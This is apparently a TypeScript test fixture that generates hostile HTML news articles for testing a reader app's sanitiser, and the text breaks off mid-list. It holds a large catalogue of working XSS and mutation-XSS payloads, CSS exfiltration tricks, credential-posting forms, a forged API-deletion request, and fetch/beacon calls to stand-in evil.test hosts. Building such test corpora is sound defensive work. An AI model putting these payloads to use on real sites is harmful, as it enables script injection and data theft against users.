// The hostile corpus: several hundred HTML documents generated from code (nothing is
// committed but this file), each an ordinary-looking news article carrying one trap.
//
// Every trap reports itself if it ever works:
//   - script: calls __pwned("ID") (a binding the test installs in every frame), and the
//     alert/confirm/prompt/console.log variants the test also watches;
//   - network: points at its own host, cID.evil.test (or the app's own origin under
//     /pwned/ID/ for relative URLs), so any request names the case that made it;
//   - navigation: goes to cID.evil.test or a javascript:/data: URL.
// Each document also carries a marker sentence, "Hostile case ID keeps its words.", that
// must be on screen when the article is open: the test waits for it and so knows the
// reader has rendered that article.
export interface HostileDoc {
  id: string;
  /** File name for the import: the id and category, always .html (one is .htm). */
  name: string;
  category: string;
  description: string;
  /** The document as bytes (most are UTF-8; a few test other encodings). */
  bytes: Uint8Array;
  /** The marker sentence the reader must show. */
  marker: string;
}

/** Where a payload goes in the article template. */
type Slot = 'head' | 'bodyAttrs' | 'bodyStart' | 'inline' | 'block' | 'afterArticle' | 'afterHtml' | 'title' | 'list' | 'table' | 'heading';

interface Case {
  category: string;
  description: string;
  /** The payload for case `id`, in `slot` (or a whole document when `whole`). */
  payload: (id: string) => string;
  slot?: Slot;
  whole?: boolean;
  encoding?: 'utf-8' | 'utf-16le' | 'windows-1252';
}

export const js = (id: string): string => `__pwned('${id}')`;
export const host = (id: string): string => `c${id}.evil.test`;
export const remote = (id: string, file = 'x'): string => `http://${host(id)}/${file}`;
/** A relative URL: it would resolve to the app's own origin, under /pwned/. */
export const relative = (id: string, file = 'x'): string => `/pwned/${id}/${file}`;

const FILLER = [
  'Officials in Peshawar said on Friday that talks over the Torkham crossing had resumed after a pause of several weeks, and that traders on both sides were waiting for the gates to reopen.',
  'A spokesman for the provincial government told reporters that the delegation would meet again next week, and that no agreement had yet been reached on the movement of refugees or of goods.',
  'Analysts in Islamabad cautioned that previous rounds of mediation had ended without result, and that the ceasefire along the border remained fragile after repeated exchanges of fire.',
];

function article(id: string, c: Case): string {
  const p = c.payload(id);
  const at = (slot: Slot) => (c.slot === slot ? p : '');
  const title = `Hostile case ${id}: ${c.category}`;
  return [
    '<!DOCTYPE html>',
    '<html lang="en">',
    `<head><meta charset="utf-8"><title>${at('title') || title}</title>${at('head')}</head>`,
    `<body ${at('bodyAttrs')}>${at('bodyStart')}`,
    '<article>',
    `<h1>${title}${at('heading')}</h1>`,
    `<p>Hostile case ${id} keeps its words. ${FILLER[0]}</p>`,
    `<p>${FILLER[1]} ${at('inline')} The statement was read out after midday prayers.</p>`,
    at('block'),
    at('list') ? `<ul><li>First point of the report.</li><li>${at('list')} Second point.</li></ul>` : '',
    at('table') ? `<table><tr><td>Province</td><td>${at('table')} Khyber Pakhtunkhwa</td></tr></table>` : '',
    `<p>${FILLER[2]} The case number ${id} is repeated here so the article stays unique.</p>`,
    '</article>',
    at('afterArticle'),
    '</body>',
    '</html>',
    at('afterHtml'),
  ].join('\n');
}

/** A whole document for cases that need control of everything; the marker is added by the caller's template. */
function shell(id: string, category: string, head: string, body: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hostile case ${id}: ${category}</title>${head}</head><body><article><h1>Hostile case ${id}: ${category}</h1><p>Hostile case ${id} keeps its words. ${FILLER[0]}</p><p>${FILLER[1]}</p>${body}<p>${FILLER[2]} Case ${id}.</p></article></body></html>`;
}

// ---------------------------------------------------------------------------------------
// 1. Script elements in every position and spelling.

const SCRIPT_SPELLINGS: [string, (id: string) => string][] = [
  ['plain', (id) => `<script>${js(id)}</script>`],
  ['upper case', (id) => `<SCRIPT>${js(id)}</SCRIPT>`],
  ['type text/javascript', (id) => `<script type="text/javascript">${js(id)}</script>`],
  ['module', (id) => `<script type="module">${js(id)}</script>`],
  ['remote src', (id) => `<script src="${remote(id, 'x.js')}"></script>`],
  ['data: src', (id) => `<script src="data:text/javascript,${encodeURIComponent(js(id))}"></script>`],
  ['relative src', (id) => `<script src="${relative(id, 'x.js')}"></script>`],
  ['CDATA wrapped', (id) => `<script>//<![CDATA[\n${js(id)}\n//]]></script>`],
  ['split tag', (id) => `<scr<script>ipt>${js(id)}</scr</script>ipt>`],
  ['tab and slash in tag', (id) => `<script\t/x>${js(id)}</script\t>`],
  ['no closing tag', (id) => `<script>${js(id)}`],
  ['speculation rules', (id) => `<script type="speculationrules">{"prerender":[{"source":"list","urls":["${remote(id, 'pre')}"]}]}</script>`],
  ['import map', (id) => `<script type="importmap">{"imports":{"x":"${remote(id, 'map.js')}"}}</script><script type="module">import "x"; ${js(id)}</script>`],
  ['defer and async', (id) => `<script defer async src="${remote(id, 'd.js')}"></script>`],
  ['nomodule', (id) => `<script nomodule>${js(id)}</script>`],
  ['event/for (IE)', (id) => `<script for="window" event="onload">${js(id)}</script>`],
];
const SCRIPT_SLOTS: Slot[] = ['head', 'bodyStart', 'inline', 'block', 'afterArticle', 'afterHtml', 'title', 'list', 'table', 'heading'];

// ---------------------------------------------------------------------------------------
// 2. Event handlers on every kind of element.

const HANDLER_ELEMENTS: [string, (handler: string) => string][] = [
  ['img src=x', (h) => `<img src="x" alt="a picture" ${h}>`],
  ['img no src', (h) => `<img alt="no source" ${h}>`],
  ['image (alias)', (h) => `<image src="x" ${h}>`],
  ['svg', (h) => `<svg ${h}><circle r="3"/></svg>`],
  ['body', (h) => `<body ${h}>`],
  ['div', (h) => `<div ${h}>Division text</div>`],
  ['p', (h) => `<p ${h}>Paragraph text</p>`],
  ['span', (h) => `<span ${h}>span text</span>`],
  ['a', (h) => `<a href="https://example.org/" ${h}>a link</a>`],
  ['input autofocus', (h) => `<input autofocus ${h}>`],
  ['textarea autofocus', (h) => `<textarea autofocus ${h}></textarea>`],
  ['select autofocus', (h) => `<select autofocus ${h}><option>x</option></select>`],
  ['button', (h) => `<button ${h}>Press</button>`],
  ['details open', (h) => `<details open ${h}><summary>More</summary>hidden text</details>`],
  ['video', (h) => `<video src="x" ${h}></video>`],
  ['audio', (h) => `<audio src="x" ${h}></audio>`],
  ['video source', (h) => `<video><source src="x" ${h}></video>`],
  ['iframe', (h) => `<iframe ${h}></iframe>`],
  ['object', (h) => `<object data="x" ${h}></object>`],
  ['embed', (h) => `<embed src="x" ${h}>`],
  ['form', (h) => `<form ${h}><input type="submit"></form>`],
  ['marquee', (h) => `<marquee ${h}>scrolling news</marquee>`],
  ['table', (h) => `<table ${h}><tr><td>cell</td></tr></table>`],
  ['td', (h) => `<table><tr><td ${h}>cell</td></tr></table>`],
  ['h2', (h) => `<h2 ${h}>A subheading</h2>`],
  ['blockquote', (h) => `<blockquote ${h}>A quotation</blockquote>`],
  ['li', (h) => `<ul><li ${h}>an item</li></ul>`],
  ['custom element', (h) => `<x-widget ${h}>custom element text</x-widget>`],
  ['style element', (h) => `<style ${h}></style>`],
  ['link element', (h) => `<link rel="stylesheet" href="x" ${h}>`],
  ['animated section', (h) => `<style>@keyframes k{from{color:red}to{color:blue}}</style><section style="animation:k 1ms" ${h}>animated</section>`],
  ['popover', (h) => `<div popover id="pop" ${h}>popover text</div><button popovertarget="pop">open</button>`],
  ['dialog open', (h) => `<dialog open ${h}>dialog text</dialog>`],
  ['math', (h) => `<math ${h}><mi>x</mi></math>`],
  ['svg animate', (h) => `<svg><animate attributeName="x" dur="1ms" ${h}/></svg>`],
  ['svg set', (h) => `<svg><set attributeName="x" to="1" ${h}/></svg>`],
  ['frameset', (h) => `<frameset ${h}><frame src="x"></frameset>`],
  ['meta', (h) => `<meta ${h}>`],
];
const EVERY_HANDLER = ['onerror', 'onload', 'onfocus', 'onfocusin', 'onblur', 'ontoggle', 'onbeforetoggle', 'onanimationstart', 'onanimationend', 'ontransitionend', 'onbegin', 'onend', 'onstart', 'onpointerenter', 'onmouseover', 'onclick', 'onscroll', 'onscrollend', 'oninput', 'onsubmit', 'onpageshow', 'oncontentvisibilityautostatechange'];
const HANDLERS: [string, (id: string) => string][] = [
  ['every handler', (id) => EVERY_HANDLER.map((h) => `${h}="${js(id)}"`).join(' ')],
  ['encoded handler body', (id) => `onerror="&#95;&#95;pwned('${id}')" onload="\\u005f_pwned('${id}')" onfocus="eval(atob('${Buffer.from(js(id)).toString('base64')}'))"`],
];

// ---------------------------------------------------------------------------------------
// 3. Script URLs in every attribute that takes a URL.

const SCRIPT_URLS: [string, (id: string) => string][] = [
  ['javascript:', (id) => `javascript:${js(id)}`],
  ['JaVaScRiPt: with spaces', (id) => `  JaVaScRiPt:${js(id)}`],
  ['tab inside the scheme', (id) => `java\tscript:${js(id)}`],
  ['entity-encoded scheme', (id) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js(id)}`],
  ['hex entities, no semicolons', (id) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${js(id)}`],
  ['&colon;', (id) => `javascript&colon;${js(id)}`],
  ['control character prefix', (id) => `\u0001javascript:${js(id)}`],
  ['newline inside', (id) => `jav&#x0A;ascript:${js(id)}`],
  ['data:text/html', (id) => `data:text/html,<script>${js(id)}</script>`],
  ['data:text/html;base64', (id) => `data:text/html;base64,${Buffer.from(`<script>${js(id)}</script>`).toString('base64')}`],
  ['data:image/svg+xml', (id) => `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`)}`],
  ['vbscript:', (id) => `vbscript:msgbox("${id}")`],
  ['livescript:', (id) => `livescript:${js(id)}`],
];
const URL_ATTRIBUTES: [string, (url: string) => string][] = [
  ['a href', (u) => `<a href="${u}">read more</a>`],
  ['area href', (u) => `<map name="m"><area shape="rect" coords="0,0,9,9" href="${u}"></map><img usemap="#m" src="x">`],
  ['iframe src', (u) => `<iframe src="${u}"></iframe>`],
  ['img src', (u) => `<img src="${u}" alt="chart">`],
  ['form action', (u) => `<form action="${u}"><input type="submit" value="Go"></form>`],
  ['button formaction', (u) => `<form><button formaction="${u}">Send</button></form>`],
  ['input formaction', (u) => `<form><input type="image" src="x" formaction="${u}"></form>`],
  ['svg a xlink:href', (u) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${u}"><text y="10">svg link</text></a></svg>`],
  ['svg a href', (u) => `<svg><a href="${u}"><text y="10">svg link</text></a></svg>`],
  ['embed src', (u) => `<embed src="${u}">`],
  ['object data', (u) => `<object data="${u}"></object>`],
  ['math href', (u) => `<math href="${u}"><mtext>click the formula</mtext></math>`],
  ['frame src', (u) => `<frameset><frame src="${u}"></frameset>`],
  ['video poster', (u) => `<video poster="${u}"></video>`],
  ['base href', (u) => `<base href="${u}"><a href="relative">relative link</a>`],
  ['link href', (u) => `<link rel="stylesheet" href="${u}">`],
  ['meta refresh url', (u) => `<meta http-equiv="refresh" content="0;url=${u}">`],
];

// ---------------------------------------------------------------------------------------
// 4-6. SVG, MathML and mutation-XSS: markup that changes meaning when parsed twice, or
// in another namespace.

const SVG_TRICKS: [string, (id: string) => string][] = [
  ['svg script', (id) => `<svg><script>${js(id)}</script></svg>`],
  ['svg script xlink:href', (id) => `<svg><script xlink:href="${remote(id, 's.js')}"></script></svg>`],
  ['svg script href data', (id) => `<svg><script href="data:,${js(id)}"></script></svg>`],
  ['svg onload', (id) => `<svg onload="${js(id)}"></svg>`],
  ['svg foreignObject html', (id) => `<svg><foreignObject><img src="x" onerror="${js(id)}"><iframe srcdoc="<script>${js(id)}</script>"></iframe></foreignObject></svg>`],
  ['svg animate href', (id) => `<svg><a><animate attributeName="href" values="javascript:${js(id)}"/><text y="20">click</text></a></svg>`],
  ['svg set href', (id) => `<svg><a><set attributeName="href" to="javascript:${js(id)}"/><text y="20">click</text></a></svg>`],
  ['svg animate xlink:href', (id) => `<svg><a xlink:href="#"><animate attributeName="xlink:href" begin="0" values="javascript:${js(id)}"/><text y="20">x</text></a></svg>`],
  ['svg use remote', (id) => `<svg><use href="${remote(id, 'sprite.svg#a')}"/></svg>`],
  ['svg use data', (id) => `<svg><use href="data:image/svg+xml;base64,${Buffer.from(`<svg id="a" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${js(id)}"/></svg>`).toString('base64')}#a"/></svg>`],
  ['svg image remote', (id) => `<svg><image href="${remote(id, 'i.png')}" width="10" height="10"/></svg>`],
  ['svg feImage', (id) => `<svg><filter id="f"><feImage href="${remote(id, 'fe.png')}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`],
  ['svg style import', (id) => `<svg><style>@import url(${remote(id, 's.css')});</style></svg>`],
  ['svg handler on child', (id) => `<svg><g onclick="${js(id)}"><rect width="9" height="9"/></g><circle r="1" onmouseover="${js(id)}"/></svg>`],
  ['svg in img data', (id) => `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js(id)}</script></svg>`).toString('base64')}" alt="svg in img">`],
  ['svg discard/handler', (id) => `<svg><discard onbegin="${js(id)}"/></svg>`],
  ['svg title with markup', (id) => `<svg><title>&lt;img src=x onerror=${js(id)}&gt;</title></svg>`],
  ['svg animation of onload attribute', (id) => `<svg><animate attributeName="onload" to="${js(id)}"/></svg>`],
];

const MATHML_TRICKS: [string, (id: string) => string][] = [
  ['mtext img', (id) => `<math><mtext><img src="x" onerror="${js(id)}"></mtext></math>`],
  ['mglyph style', (id) => `<math><mtext><table><mglyph><style><img src="x" onerror="${js(id)}"></style></mglyph></table></mtext></math>`],
  ['annotation-xml text/html', (id) => `<math><annotation-xml encoding="text/html"><script>${js(id)}</script><img src="x" onerror="${js(id)}"></annotation-xml></math>`],
  ['annotation-xml svg', (id) => `<math><annotation-xml encoding="application/xhtml+xml"><svg onload="${js(id)}"></svg></annotation-xml></math>`],
  ['maction', (id) => `<math><maction actiontype="statusline" xlink:href="javascript:${js(id)}"><mi>x</mi><mtext>status</mtext></maction></math>`],
  ['math href', (id) => `<math><mi href="javascript:${js(id)}">click</mi></math>`],
  ['mi with xlink', (id) => `<math xmlns:xlink="http://www.w3.org/1999/xlink"><mi xlink:href="javascript:${js(id)}">x</mi></math>`],
  ['malignmark', (id) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${js(id)}>"></style></mtext></svg></mglyph></h1></mtext></math>`],
  ['math in svg in math', (id) => `<math><mtext><svg><math><mtext><img src="x" onerror="${js(id)}"></mtext></math></svg></mtext></math>`],
  ['semantics', (id) => `<math><semantics><annotation-xml encoding="text/html"><iframe srcdoc="<script>${js(id)}</script>"></iframe></annotation-xml></semantics></math>`],
  ['mstyle css', (id) => `<math><mstyle style="background:url(${remote(id, 'm.png')})"><mi>y</mi></mstyle></math>`],
  ['math form', (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js(id)}">`],
];

const MUTATION_XSS: [string, (id: string) => string][] = [
  ['noscript title', (id) => `<noscript><p title="</noscript><img src=x onerror=${js(id)}>"></noscript>`],
  ['noscript style', (id) => `<noscript><style></noscript><img src=x onerror="${js(id)}"></style></noscript>`],
  ['svg p style', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${js(id)}>">`],
  ['svg style comment', (id) => `<svg><style><!--</style><img src=x onerror=${js(id)}>--></style></svg>`],
  ['template', (id) => `<template><img src="x" onerror="${js(id)}"><script>${js(id)}</script></template>`],
  ['template shadowroot', (id) => `<div><template shadowrootmode="open"><img src="x" onerror="${js(id)}"><slot></slot></template>shadow host</div>`],
  ['textarea', (id) => `<textarea><script>${js(id)}</script></textarea>`],
  ['textarea break-out', (id) => `<textarea></textarea><img src=x onerror="${js(id)}"></textarea>`],
  ['title in body', (id) => `<title><img src=x onerror="${js(id)}"></title>`],
  ['title break-out', (id) => `<title></title><img src=x onerror="${js(id)}"></title>`],
  ['style in body', (id) => `<style><img src=x onerror="${js(id)}"></style>`],
  ['style break-out', (id) => `<style></style><img src=x onerror="${js(id)}"></style>`],
  ['xmp', (id) => `<xmp><img src=x onerror="${js(id)}"></xmp>`],
  ['plaintext', (id) => `<plaintext><img src=x onerror="${js(id)}">`],
  ['noembed', (id) => `<noembed><img src=x onerror="${js(id)}"></noembed>`],
  ['noframes', (id) => `<noframes><img src=x onerror="${js(id)}"></noframes>`],
  ['iframe text', (id) => `<iframe><img src=x onerror="${js(id)}"></iframe>`],
  ['comment confusion', (id) => `<!--><img src=x onerror="${js(id)}">-->`],
  ['comment in attribute', (id) => `<a title="<!--"></a><img src=x onerror="${js(id)}"><a title="-->">x</a>`],
  ['cdata in html', (id) => `<![CDATA[><img src=x onerror="${js(id)}">]]>`],
  ['processing instruction', (id) => `<?xml version="1.0"?><img src=x onerror="${js(id)}"?>`],
  ['attribute with tag', (id) => `<a href="https://example.org/" title="</a><img src=x onerror=${js(id)}>">safe</a>`],
  ['select break-out', (id) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js(id)}>">`],
  ['svg foreignobject p style', (id) => `<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;${js(id)}>"></foreignobject></svg>`],
  ['form nesting', (id) => `<form id="a"><form id="b"><input form="a" formaction="javascript:${js(id)}" type="submit"></form></form>`],
  ['table foster parenting', (id) => `<table><img src=x onerror="${js(id)}"><tr><td>cell</td></tr></table>`],
  ['nested noscript', (id) => `<noscript><noscript><img src=x onerror="${js(id)}"></noscript></noscript>`],
  ['is attribute', (id) => `<p is="x-y" onclick="${js(id)}">customized built-in</p>`],
  ['DOM clobbering', (id) => `<form name="__pwned"><input name="call"></form><img name="getElementById" src="x"><a id="casefile" href="javascript:${js(id)}">clobber</a>`],
  ['null byte in tag', (id) => `<scr\u0000ipt>${js(id)}</scr\u0000ipt><img\u0000src=x onerror="${js(id)}">`],
];

// ---------------------------------------------------------------------------------------
// 7. CSS exfiltration and remote resources through styles.

const CSS_TRICKS: [string, (id: string) => string][] = [
  ['attribute selector', (id) => `<style>input[value^="a"]{background:url(${remote(id, 'a')})} a[href^="https"]{background:url(${remote(id, 'h')})}</style><input value="abc">`],
  ['@import', (id) => `<style>@import url("${remote(id, 'i.css')}");</style>`],
  ['@import bare string', (id) => `<style>@import '${remote(id, 'j.css')}';</style>`],
  ['@font-face', (id) => `<style>@font-face{font-family:x${id};src:url(${remote(id, 'f.woff2')})} body,p{font-family:x${id}}</style>`],
  ['@font-face unicode-range leak', (id) => `<style>@font-face{font-family:l;src:url(${remote(id, 'A')});unicode-range:U+41} p{font-family:l}</style>`],
  ['style attribute background', (id) => `<div style="background:url(${remote(id, 'bg.png')})">styled div</div>`],
  ['style attribute on span', (id) => `<span style="background-image:url('${remote(id, 'span.png')}');color:red">styled span</span>`],
  ['list-style-image', (id) => `<ul style="list-style-image:url(${remote(id, 'bullet.png')})"><li>item</li></ul>`],
  ['cursor', (id) => `<p style="cursor:url(${remote(id, 'c.cur')}),auto">cursor paragraph</p>`],
  ['border-image', (id) => `<p style="border:9px solid;border-image:url(${remote(id, 'b.png')}) 30">border paragraph</p>`],
  ['mask and content', (id) => `<style>p::before{content:url(${remote(id, 'content.png')})} h1{mask:url(${remote(id, 'mask.svg')})}</style>`],
  ['image-set', (id) => `<style>body{background-image:image-set("${remote(id, 'set.png')}" 1x)}</style>`],
  ['behavior and expression', (id) => `<p style="behavior:url(${remote(id, 'x.htc')});width:expression(${js(id)})">old IE tricks</p>`],
  ['javascript in url()', (id) => `<div style="background:url(javascript:${js(id)})">js url in css</div>`],
  ['escaped url', (id) => `<div style="background:u\\72l(${remote(id, 'esc.png')})">escaped</div>`],
  ['link stylesheet', (id) => `<link rel="stylesheet" href="${remote(id, 'l.css')}">`],
  ['link stylesheet relative', (id) => `<link rel="stylesheet" href="${relative(id, 'l.css')}">`],
  [':has and sibling leak', (id) => `<style>html:has(input[name="token"]) body{background:url(${remote(id, 'has')})}</style>`],
  ['style in svg', (id) => `<svg><style>svg{background:url(${remote(id, 'svgbg.png')})}</style></svg>`],
  ['@namespace and @charset', (id) => `<style>@charset "utf-8";@namespace url(${remote(id, 'ns')});*{background:url(${remote(id, 'ns.png')})}</style>`],
];

// ---------------------------------------------------------------------------------------
// 8-15. Navigation, frames, objects, forms, remote images, fonts, media, links.

const NAVIGATION: [string, (id: string) => string, Slot][] = [
  ['meta refresh remote', (id) => `<meta http-equiv="refresh" content="0;url=${remote(id, 'r')}">`, 'head'],
  ['meta refresh javascript', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${js(id)}">`, 'head'],
  ['meta refresh data', (id) => `<meta http-equiv="Refresh" content="0; URL='data:text/html,<script>${js(id)}</script>'">`, 'head'],
  ['meta refresh in body', (id) => `<meta http-equiv="REFRESH" content="1;${remote(id, 'body-refresh')}">`, 'block'],
  ['meta set-cookie and link header', (id) => `<meta http-equiv="set-cookie" content="x=${id}"><meta http-equiv="Link" content="<${remote(id, 'hdr.css')}>; rel=stylesheet">`, 'head'],
  ['base remote', (id) => `<base href="http://${host(id)}/"><img src="base.png" alt="via base"><script src="base.js"></script>`, 'head'],
  ['base javascript', (id) => `<base href="javascript:${js(id)}//"><a href="relative">relative link</a>`, 'head'],
  ['base target', (id) => `<base target="_top" href="${remote(id, '')}"><a href="x">targeted link</a>`, 'head'],
  ['window.open via handler', (id) => `<img src="x" onerror="window.open('${remote(id, 'popup')}');${js(id)}">`, 'block'],
  ['location via script', (id) => `<script>location='${remote(id, 'loc')}';${js(id)}</script>`, 'block'],
  ['a target _blank', (id) => `<a href="${remote(id, 'blank')}" target="_blank" rel="opener">opens a window if clicked</a>`, 'inline'],
  ['a ping', (id) => `<a href="https://example.org/" ping="${remote(id, 'ping')}">link with ping</a>`, 'inline'],
  ['autofocus anchor', (id) => `<a href="javascript:${js(id)}" autofocus id="x">focus me</a>`, 'inline'],
  ['portal and fencedframe', (id) => `<portal src="${remote(id, 'portal')}"></portal><fencedframe src="${remote(id, 'fenced')}"></fencedframe>`, 'block'],
  ['webview tag', (id) => `<webview src="${remote(id, 'webview')}" nodeintegration></webview>`, 'block'],
  ['manifest', (id) => `<link rel="manifest" href="${remote(id, 'manifest.json')}">`, 'head'],
  ['service worker registration', (id) => `<script>navigator.serviceWorker.register('${relative(id, 'sw.js')}');${js(id)}</script>`, 'block'],
  ['html manifest attribute', (id) => `<html manifest="${remote(id, 'app.appcache')}">`, 'bodyStart'],
];

const FRAMES: [string, (id: string) => string][] = [
  ['iframe remote', (id) => `<iframe src="${remote(id, 'frame')}" width="300" height="200"></iframe>`],
  ['iframe srcdoc', (id) => `<iframe srcdoc="<script>parent.${js(id)}</script><img src=x onerror=top.${js(id)}>"></iframe>`],
  ['iframe srcdoc entity', (id) => `<iframe srcdoc="&lt;script&gt;top.${js(id)}&lt;/script&gt;"></iframe>`],
  ['iframe relative', (id) => `<iframe src="${relative(id, 'frame.html')}"></iframe>`],
  ['iframe sandbox allow-scripts', (id) => `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${remote(id, 'top')}'</script>"></iframe>`],
  ['iframe lazy', (id) => `<iframe loading="lazy" src="${remote(id, 'lazy')}"></iframe>`],
  ['frameset', (id) => `<frameset rows="50%,50%"><frame src="${remote(id, 'f1')}"><frame src="javascript:${js(id)}"></frameset>`],
  ['object html', (id) => `<object data="${remote(id, 'o.html')}" type="text/html"></object>`],
  ['object data html', (id) => `<object data="data:text/html,<script>${js(id)}</script>"></object>`],
  ['object flash', (id) => `<object classid="clsid:d27cdb6e-ae6d-11cf-96b8-444553540000"><param name="movie" value="${remote(id, 'f.swf')}"><param name="allowScriptAccess" value="always"></object>`],
  ['embed remote', (id) => `<embed src="${remote(id, 'e.swf')}" type="application/x-shockwave-flash">`],
  ['embed svg', (id) => `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.${js(id)}"/>`).toString('base64')}">`],
  ['applet', (id) => `<applet code="X.class" codebase="${remote(id, 'applet/')}"><param name="x" value="1">applet fallback</applet>`],
  ['object with fallback img', (id) => `<object data="x"><img src="${remote(id, 'fallback.png')}" alt="fallback"></object>`],
];

const FORMS: [string, (id: string) => string][] = [
  ['form remote action', (id) => `<form action="${remote(id, 'steal')}" method="post"><input name="password" value="secret"><input type="submit"></form>`],
  ['form autosubmit', (id) => `<form id="f${id}" action="${remote(id, 'auto')}"></form><img src="x" onerror="document.getElementById('f${id}').submit()">`],
  ['input type image', (id) => `<input type="image" src="${remote(id, 'button.png')}" alt="send">`],
  ['button form attribute', (id) => `<form id="g${id}"></form><button form="g${id}" formaction="${remote(id, 'formaction')}" autofocus onfocus="this.click()">send</button>`],
  ['isindex and keygen', (id) => `<isindex action="${remote(id, 'isindex')}"><keygen autofocus onfocus="${js(id)}">`],
  ['form to api', (_id) => `<form action="/api/invoke" method="post" enctype="text/plain"><input name='{"method":"articles.delete","input":{"id":1},"x":"' value='"}'></form>`],
  ['hidden password field', (id) => `<input type="password" name="pw" autocomplete="current-password" onchange="${js(id)}">`],
  ['fieldset with handlers', (id) => `<form><fieldset onfocusin="${js(id)}"><legend>Login</legend><input autofocus></fieldset></form>`],
];

const REMOTE_IMAGES: [string, (id: string) => string][] = [
  ['img', (id) => `<img src="${remote(id, 'photo.jpg')}" alt="A photograph of the crossing">`],
  ['img protocol-relative', (id) => `<img src="//${host(id)}/pr.jpg" alt="protocol relative">`],
  ['img relative', (id) => `<img src="${relative(id, 'rel.jpg')}" alt="relative image">`],
  ['img srcset', (id) => `<img srcset="${remote(id, 'a.jpg')} 1x, ${remote(id, 'b.jpg')} 2x" alt="srcset image">`],
  ['img sizes srcset', (id) => `<img src="${remote(id, 's.jpg')}" srcset="${remote(id, 'w.jpg')} 800w" sizes="100vw" alt="sized">`],
  ['picture source', (id) => `<picture><source srcset="${remote(id, 'p.webp')}" type="image/webp"><source media="(min-width:1px)" srcset="${remote(id, 'm.jpg')}"><img src="${remote(id, 'p.jpg')}" alt="picture"></picture>`],
  ['lazy img', (id) => `<img loading="lazy" src="${remote(id, 'lazy.jpg')}" alt="lazy">`],
  ['img lowsrc dynsrc longdesc', (id) => `<img lowsrc="${remote(id, 'low.jpg')}" dynsrc="${remote(id, 'dyn.avi')}" longdesc="${remote(id, 'desc')}" src="x" alt="old attributes">`],
  ['body background', (id) => `<table background="${remote(id, 'table.png')}"><tr><td background="${remote(id, 'td.png')}">cell</td></tr></table>`],
  ['video poster', (id) => `<video poster="${remote(id, 'poster.jpg')}" controls></video>`],
  ['video src and track', (id) => `<video src="${remote(id, 'v.mp4')}" autoplay muted><track kind="subtitles" src="${remote(id, 'subs.vtt')}" default></video>`],
  ['audio src', (id) => `<audio src="${remote(id, 'a.mp3')}" autoplay></audio><audio><source src="${remote(id, 'b.ogg')}"></audio>`],
  ['bgsound', (id) => `<bgsound src="${remote(id, 'bg.mid')}">`],
  ['link preload image', (id) => `<link rel="preload" as="image" href="${remote(id, 'preload.png')}">`],
  ['link prefetch', (id) => `<link rel="prefetch" href="${remote(id, 'prefetch')}">`],
  ['link dns-prefetch and preconnect', (id) => `<link rel="dns-prefetch" href="//${host(id)}"><link rel="preconnect" href="http://${host(id)}">`],
  ['link modulepreload and import', (id) => `<link rel="modulepreload" href="${remote(id, 'm.js')}"><link rel="import" href="${remote(id, 'imp.html')}">`],
  ['link icon', (id) => `<link rel="icon" href="${remote(id, 'favicon.ico')}"><link rel="apple-touch-icon" href="${remote(id, 'touch.png')}">`],
  ['link preload font', (id) => `<link rel="preload" as="font" crossorigin href="${remote(id, 'font.woff2')}">`],
  ['svg image inline', (id) => `<svg width="10" height="10"><image href="${remote(id, 'svgimg.png')}" width="10" height="10"/></svg>`],
  ['img in link', (id) => `<a href="${remote(id, 'story')}"><img src="${remote(id, 'thumb.jpg')}" alt="thumbnail"></a>`],
  ['figure with img', (id) => `<figure><img src="${remote(id, 'fig.jpg')}" alt="Figure one"><figcaption>A caption under the figure</figcaption></figure>`],
  ['tracking pixel', (id) => `<img src="${remote(id, 'pixel.gif')}?u=reader" width="1" height="1" style="display:none">`],
  ['img onerror fetch', (id) => `<img src="x" onerror="fetch('${remote(id, 'fetch')}');navigator.sendBeacon('${remote(id, 'beacon')}');${js(id)}">`],
];

// ---------------------------------------------------------------------------------------
// 16. Metadata fields carrying markup or script URLs (titles, bylines, canonical links).

const METADATA: [string, (id: string) => string, Slot][] = [
  ['title with markup', (id) => `Hostile case ${id}: &lt;img src=x onerror=${js(id)}&gt; <b>bold</b> title`, 'title'],
  ['og:url javascript', (id) => `<meta property="og:url" content="javascript:${js(id)}"><meta property="og:image" content="${remote(id, 'og.png')}">`, 'head'],
  ['canonical javascript', (id) => `<link rel="canonical" href="javascript:${js(id)}">`, 'head'],
  ['json-ld with script', (id) => `<script type="application/ld+json">{"@type":"NewsArticle","headline":"Hostile case ${id}: </script><script>${js(id)}</script>","author":{"name":"<img src=x onerror=${js(id)}>"},"url":"javascript:${js(id)}","image":"${remote(id, 'ld.png')}"}</script>`, 'head'],
  ['byline markup', (id) => `<meta name="author" content="<svg onload=${js(id)}>"><meta property="article:author" content="javascript:${js(id)}">`, 'head'],
  ['site name markup', (id) => `<meta property="og:site_name" content="<iframe src=${remote(id, 'site')}>">`, 'head'],
  ['published date payload', (id) => `<meta property="article:published_time" content="2025-10-01T00:00:00Z<script>${js(id)}</script>">`, 'head'],
  ['dir and lang injection', (id) => `<span dir="rtl" lang="en&quot; onmouseover=&quot;${js(id)}">injected lang</span>`, 'inline'],
];

// ---------------------------------------------------------------------------------------
// Whole-document oddities: encodings, no article, frames only.

const WHOLE: [string, (id: string) => string, Case['encoding']][] = [
  ['utf-7 declared', (id) => shell(id, 'utf-7 declared', '<meta charset="utf-7">', `<p>+ADw-script+AD4-${js(id)}+ADw-/script+AD4-</p>`), 'utf-8'],
  ['utf-16le with BOM', (id) => shell(id, 'utf-16le with BOM', '', `<script>${js(id)}</script><img src="${remote(id, 'u16.png')}" onerror="${js(id)}">`), 'utf-16le'],
